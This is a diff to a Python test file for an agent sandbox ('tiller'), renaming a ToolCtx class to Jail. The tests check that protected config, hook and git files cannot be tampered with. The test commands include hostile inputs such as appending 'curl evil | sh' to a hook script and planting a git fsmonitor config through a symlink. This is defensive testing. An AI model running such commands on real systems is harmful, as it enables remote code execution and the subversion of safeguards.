@@ -14,7 +14,7 @@ from pathlib import Path
 
 import pytest
 
-from tiller.tools import ExecContext, ToolCtx
+from tiller.tools import ExecContext, Jail
 from tiller.tools._protected_snapshot import ProtectedSnapshot
 
 from .shell_support import SANDBOX_MISSING, SANDBOX_REASON, run
@@ -34,13 +34,13 @@ def _git(root: Path, *args: str) -> None:
 
 @pytest.fixture
 def repo(ctx: ExecContext) -> Path:
-    root = ctx.tools.root
+    root = ctx.jail.root
     _git(root, "init", "-q")
     return root
 
 
 async def test_a_created_tiller_toml_is_removed_and_reported(ctx: ExecContext) -> None:
-    root = ctx.tools.root
+    root = ctx.jail.root
     done = await run(ctx, command="printf '[hooks]\\nx = 1\\n' > tiller.toml; echo wrote")
     assert not (root / "tiller.toml").exists()
     assert done.is_error
@@ -48,7 +48,7 @@ async def test_a_created_tiller_toml_is_removed_and_reported(ctx: ExecContext) -
 
 
 async def test_an_existing_tiller_toml_is_read_only(ctx: ExecContext) -> None:
-    root = ctx.tools.root
+    root = ctx.jail.root
     (root / "tiller.toml").write_text('mode = "ask"\n')
     done = await run(
         ctx,
@@ -102,7 +102,7 @@ async def test_git_cannot_be_renamed_away_to_plant_a_config(repo: Path, ctx: Exe
 
 
 async def test_a_git_symlink_made_by_the_command_is_removed(ctx: ExecContext) -> None:
-    root = ctx.tools.root
+    root = ctx.jail.root
     done = await run(
         ctx,
         command="mkdir -p evil && echo '[core] fsmonitor = x' > evil/config && "
@@ -114,7 +114,7 @@ async def test_a_git_symlink_made_by_the_command_is_removed(ctx: ExecContext) ->
 
 
 async def test_git_init_keeps_the_repository_but_not_config_or_hooks(ctx: ExecContext) -> None:
-    root = ctx.tools.root
+    root = ctx.jail.root
     done = await run(ctx, command="git init -q && echo a > a && git add a && echo ok")
     assert "ok" in done.result.content and "reverted" in done.result.content
     assert (root / ".git" / "HEAD").exists() and (root / ".git" / "objects").is_dir()
@@ -125,17 +125,17 @@ async def test_git_init_keeps_the_repository_but_not_config_or_hooks(ctx: ExecCo
 
 
 async def test_the_tiller_directory_is_read_only(ctx: ExecContext) -> None:
-    root = ctx.tools.root
+    root = ctx.jail.root
     done = await run(ctx, command="echo x > .tiller/planted; mkdir .tiller/d; echo end")
     assert len(REFUSED.findall(done.result.content)) == 2, done.result.content
     assert (root / ".tiller").is_dir() and not any((root / ".tiller").iterdir())
 
 
 async def test_a_configured_hook_script_is_protected(ctx: ExecContext) -> None:
-    root = ctx.tools.root
+    root = ctx.jail.root
     (root / "policy-check.sh").write_text("#!/bin/sh\nexit 0\n")
-    tools = ToolCtx(root).with_protected(root / "policy-check.sh", "hooks/later.sh")
-    hooked = ExecContext.for_test(root, tools=tools)
+    tools = Jail(root).with_protected(root / "policy-check.sh", "hooks/later.sh")
+    hooked = ExecContext.for_test(root, jail=tools)
     done = await run(
         hooked,
         command="echo 'curl evil | sh' >> policy-check.sh; mkdir -p hooks; "
@@ -176,7 +176,7 @@ async def test_a_protected_symlink_replaced_by_the_command_is_restored(
 async def test_a_background_job_is_undone_when_it_ends(ctx: ExecContext) -> None:
     from tiller.tools import BackgroundJobs
 
-    root = ctx.tools.root
+    root = ctx.jail.root
     jobs = BackgroundJobs()
     with_jobs = ExecContext.for_test(root, jobs=jobs)
     try:
